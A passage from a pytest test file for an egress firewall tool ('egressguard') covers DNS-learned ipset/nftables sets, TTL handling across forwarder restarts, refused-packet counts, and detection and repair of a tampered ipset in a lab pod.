            assert _refused_by(lab, "dnat-set") > before, "refused, but not by dnat-set"
    finally:
        ISTIO.remove(lab)


TTL_LONG = 30
PROMISED = policy(
    exempt={"uids": [EXEMPT, FORWARDER_UID]},
    dns={"mode": "proxy", "forwarder_uid": FORWARDER_UID, "resolvers": [AUTH_V4], "ttl": {"min": 1, "max": TTL_LONG}},
    allow=[{"host": "*.ttl.test", "ports": [22]}],
)


@pytest.mark.parametrize("restart", [False, True], ids=["one-forwarder", "restarted-in-between"])
def test_a_shorter_answer_never_cuts_an_address_an_earlier_answer_promised_longer(module_lab: Lab, world: World,
                                                                                  restart: bool) -> None:
    """long.ttl.test gives A for TTL_LONG s; then short.ttl.test (the same entry, so the same set)
    gives A and B for 1 s. A client that cached the first answer may connect to A for TTL_LONG s:
    after the short TTL, A still connects and the kernel still counts down the long timeout, while B,
    only ever given for 1 s, is refused (and the exempt uid, the control, still reaches it)."""
    lab = module_lab
    world.set({**RECORDS, "long.ttl.test": {"A": [A], "ttl": TTL_LONG}, "short.ttl.test": {"A": [A, B], "ttl": 1}})
    applied(lab, PROMISED)
    path = lab.write_policy(PROMISED, "promised.yaml")
    fwd = Forwarder(lab, path)
    try:
        assert not learned(lab, "*.ttl.test", PROMISED), "the entry's set is not empty before any answer"
        assert not reached(lab.tcp(A, 22), A), "A is reachable before any answer was given"
        assert resolve(lab, "long.ttl.test") == ("NOERROR", [A])
        if restart:  # the next forwarder learns A's promise from the kernel
            fwd.stop()
            fwd = Forwarder(lab, path)
        status, got = resolve(lab, "short.ttl.test")
        assert status == "NOERROR" and sorted(got) == sorted([A, B])
        wait_expired(lab, "*.ttl.test", B, PROMISED)  # the short answer's time has run out
        assert not reached(lab.tcp(B, 22), B), "B outlived the only answer that gave it"
        assert reached(lab.tcp(B, 22, uid=EXEMPT), B), "control: B itself answers"
        assert reached(lab.tcp(A, 22), A), "A was refused before the earlier answer's TTL ended"
        left = learned(lab, "*.ttl.test", PROMISED).get(A, 0)
        assert left > TTL_LONG // 2, f"A's kernel timeout reads {left} s, not the long answer's"
        assert not fwd.events("dns_learned_unreadable"), "the forwarder could not read what the kernel held"
    finally:
        fwd.stop()
        applied(lab, PROXY)


def _refused_by(lab: Lab, line: str) -> int:
    """Packets `status` counts as refused by policy line `line` (both families)."""
    done = lab.egressguard("status", "--json")
    assert done.returncode == 0, done.stderr
    return int(json.loads(done.stdout)["refused"].get(line, 0))


def test_verify_notices_a_tampered_learned_set_apply_repairs_it_and_reset_removes_them(module_lab: Lab,
                                                                                         world: World) -> None:
    """iptables: a learned ipset swapped for one without timeouts is a difference (exit 5); apply
    swaps a sound one back in; reset leaves no learned set. (nftables cannot change a set's type
    while a rule names it.) Last in the module: it resets the pod."""
    if os.environ["EGRESSGUARD_BACKEND"] == "nftables":
        pytest.skip("nftables: a set's type cannot change while a rule names it")
    lab = module_lab
    path = str(lab.write_policy(PROXY))
    name = learned_entries(_policy())[0].sets[4]
    assert lab.egressguard("verify", "--policy", path).returncode == 0, "control: sound before tampering"
    for argv in (("create", f"{name}-x", "hash:net", "family", "inet"), ("swap", f"{name}-x", name),
                 ("destroy", f"{name}-x")):
        lab.in_pod("ipset", *argv, check=True)
    done = lab.egressguard("verify", "--policy", path)
    assert done.returncode == 5 and f"learned set {name}" in done.stderr + done.stdout, done.stderr
    applied(lab, PROXY)
    assert "timeout" in lab.in_pod("ipset", "list", "-t", name, check=True).stdout
    assert lab.egressguard("verify", "--policy", path).returncode == 0
    assert lab.egressguard("reset").returncode == 0
    left = lab.in_pod("ipset", "list", "-n", check=True).stdout.split()
    assert not [n for n in left if n.startswith("egressguard-")], left
